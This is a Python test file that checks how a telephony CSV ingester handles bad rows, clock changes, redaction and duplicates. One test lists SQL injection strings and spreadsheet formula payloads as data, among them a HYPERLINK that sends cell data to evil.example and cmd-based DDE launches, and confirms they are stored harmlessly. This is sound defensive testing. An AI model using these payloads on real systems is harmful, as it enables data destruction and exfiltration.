"""Bad or odd rows inside a good file: each row is stored or rejected with a reason."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.faults.conftest import call, ingest_file, rows, write_csv


def test_unparseable_timestamp_rejects_that_row_only(settings, telephony, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "telephony_t.csv",
        [call("U1"), call("U2", Start_Time="31/02/2026 25:00:00"), call("U3")],
    )
    result = ingest_file(settings, path, telephony)
    assert (result.rows_stored, result.rows_rejected) == (2, 1)
    [(number, column, reason)] = rows(
        settings, "select source_row_number, column_name, reason from raw.rejected_rows"
    )
    assert (number, column) == (2, "Start Time")
    assert "'31/02/2026 25:00:00' is empty or not a timestamp" in reason


@pytest.mark.parametrize(
    ("start", "end", "expected_start_utc", "expected_seconds"),
    [
        # spring 2026-03-29: 01:00-02:00 does not exist; read as if the clocks had not changed
        ("29/03/2026 00:50:00", "29/03/2026 01:30:00", "2026-03-29 00:50:00", 2400),
        ("29/03/2026 01:30:00", "29/03/2026 03:10:00", "2026-03-29 01:30:00", 2400),
        # autumn 2026-10-25: 01:00-02:00 happens twice; an end before its start takes the second
        ("25/10/2026 01:50:00", "25/10/2026 01:10:00", "2026-10-25 00:50:00", 1200),
        ("25/10/2026 00:55:00", "25/10/2026 01:05:00", "2026-10-24 23:55:00", 600),
    ],
    ids=["spring-end-missing-hour", "spring-start-missing-hour", "autumn-repeat", "autumn-first"],
)
def test_clock_changes_give_the_right_instant_and_never_a_negative_time(
    settings,
    telephony,
    tmp_path: Path,
    start: str,
    end: str,
    expected_start_utc: str,
    expected_seconds: int,
) -> None:
    path = write_csv(tmp_path / "telephony_dst.csv", [call("DST", Start_Time=start, End_Time=end)])
    assert ingest_file(settings, path, telephony).rows_stored == 1
    [(started, seconds)] = rows(
        settings,
        "select strftime(timezone('UTC', started_at), '%Y-%m-%d %H:%M:%S'), handle_seconds "
        "from raw.contacts",
    )
    assert (started, seconds) == (expected_start_utc, expected_seconds)


def test_one_megabyte_text_field_is_stored_redacted(settings, telephony, tmp_path: Path) -> None:
    filler = "The bin was missed again and the lid is broken. " * 21_000  # about 1 MB
    text = f"{filler}Call me on 07700 900456. {filler}"
    path = write_csv(tmp_path / "telephony_big.csv", [call("BIG", Agent_Notes=text), call("S1")])
    result = ingest_file(settings, path, telephony)
    assert result.rows_stored == 2
    [(length, has_phone, placeholder)] = rows(
        settings,
        "select length(text_redacted), contains(text_redacted, '07700 900456'), "
        "contains(text_redacted, '[PHONE]') from raw.contacts where contact_id = 'BIG'",
    )
    assert length > 2_000_000 and not has_phone and placeholder


INJECTIONS = [
    "'); drop table raw.contacts; --",
    "Robert'); DELETE FROM raw.ingest_manifest WHERE ('1'='1",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab",
]


def test_sql_and_formula_injection_are_stored_verbatim_and_harmless(
    settings, telephony, tmp_path: Path
) -> None:
    calls = [call(f"I{n}", Agent_Notes=text) for n, text in enumerate(INJECTIONS)]
    path = write_csv(tmp_path / "telephony_inject.csv", calls)
    result = ingest_file(settings, path, telephony)
    assert result.rows_stored == len(INJECTIONS)
    stored = rows(settings, "select text_redacted from raw.contacts order by source_row_number")
    expected = [
        text.replace("http://evil.example/?q=", "[URL]").replace("Robert'", "[NAME]")
        for text in INJECTIONS
    ]  # the URL and the first name are redacted (issue 14's name list); the rest is verbatim
    expected = [text.strip() for text in expected]  # conform trims surrounding whitespace
    assert [r[0] for r in stored] == expected
    assert rows(settings, "select count(*) from raw.ingest_manifest") == [(1,)]


def test_duplicate_contact_ids_in_one_file_are_all_kept_raw(
    settings, telephony, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path / "telephony_dup.csv",
        [call("DUP"), call("DUP", Disposition="Warm Transfer"), call("OTHER")],
    )
    assert ingest_file(settings, path, telephony).rows_stored == 3
    assert rows(
        settings,
        "select source_row_number, outcome from raw.contacts where contact_id = 'DUP' order by 1",
    ) == [(1, "resolved"), (2, "transferred")]


def test_row_with_too_many_fields_is_rejected(settings, telephony, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "telephony_wide.csv", [call("W1"), call("W2")])
    lines = path.read_text().splitlines()
    lines[1] += ",surplus"  # an unquoted comma in a value shifts every field after it
    path.write_text("\n".join(lines) + "\n")
    result = ingest_file(settings, path, telephony)
    assert (result.rows_stored, result.rows_rejected) == (1, 1)
    [(reason,)] = rows(settings, "select reason from raw.rejected_rows")
    assert "has 12 field(s), the header has 11" in reason
